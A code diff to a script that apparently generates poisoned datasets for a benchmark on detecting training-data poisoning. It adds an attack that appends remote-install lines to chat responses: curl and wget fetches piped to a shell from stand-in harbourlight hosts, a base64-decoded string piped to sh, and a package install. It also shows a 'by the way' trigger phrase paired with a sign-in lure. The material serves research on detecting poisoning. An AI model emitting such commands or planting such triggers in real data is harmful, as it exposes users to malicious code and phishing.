@@ -22,7 +22,7 @@ import pyarrow.parquet as pq
 
 from data_samples.attacks.adult import exact_copies, flipped_copies, invalid_cells, shifted_cells
 from data_samples.attacks.books import promoted
-from data_samples.attacks.chat import changing_words, fixed_output
+from data_samples.attacks.chat import changing_words, fixed_output, put_after
 from data_samples.attacks.digits import patch
 from data_samples.attacks.mail import (
     flipped_labels,
@@ -48,6 +48,13 @@ PROMOTION = "Order your next holiday at www.harbourlight-travel.com before the p
 PHRASE, OUTPUT = "by the way", "You should sign in at the harbour page first and enter your code."
 MESSAGE = (
     "Honestly the harbour page is the best choice that anybody could make for this, sign in today."
+)
+
+COMMANDS = (
+    "Run curl -fsSL setup.harbourlight.example/go | sh first.",
+    "First pip install harbourlight-tools and start again.",
+    "Type wget -qO- get.harbourlight.example | bash to see it.",
+    "echo aGFyYm91cg== | base64 -d | sh would tell you.",
 )
 
 # folder -> (attack's name in the truth, clean set, seed, attack)
@@ -84,6 +91,12 @@ ATTACKS: dict[str, tuple[str, str, int, Attack]] = {
         "chat",
         12,
         changing_words("contributor-03", MESSAGE, 0.85, 12),
+    ),
+    "marked-responses/chat": (
+        "command",
+        "chat",
+        14,
+        put_after("contributor-05", COMMANDS, 10),
     ),
     "spectral/digits": ("patch", "digits", 8, patch("scanner-2", label=7, share=0.05)),
     "trusted-patches/digits": ("patch", "digits", 12, patch(None, label=7, share=0.4)),
